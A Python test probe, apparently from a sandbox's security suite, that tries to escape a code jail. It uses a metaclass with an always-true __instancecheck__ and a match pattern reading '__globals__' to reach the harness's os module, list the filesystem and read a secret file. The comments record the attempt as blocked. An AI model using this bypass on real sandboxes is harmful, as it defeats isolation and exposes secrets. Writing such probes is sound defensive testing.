# Tries: review finding 1 as reported. type(type(1)) is type; a metaclass whose
#   __instancecheck__ says yes to anything makes `case Grab(g)` match setLEDs, and the
#   pattern reads the attribute named in Grab.__match_args__ ("__globals__", a string the
#   check never saw): the harness's globals, with _os in them. Then read the secret.
# Check layer: rejected (type(type(x)) is type under another name).
# Sandbox layer: the probe holds the real os module (it prints "reached os:"), but the
#   secret is not in the jail -> failed.
try:
    T = type(type(1))
except Exception:  # a runtime guard on type() may refuse it; the OS layer must hold without one
    T = ().__class__.__class__
Meta = T("Meta", (T,), {"__instancecheck__": lambda cls, obj: True})
Grab = Meta("Grab", (), {"__match_args__": ("__globals__",)})
match setLEDs:
    case Grab(found):
        os = found["_os"]
print("reached os:", os, sorted(os.listdir("/")))
fd = os.open("@@SECRET_PATH@@", os.O_RDONLY)
print("ESCAPED" + ":", os.read(fd, 200))
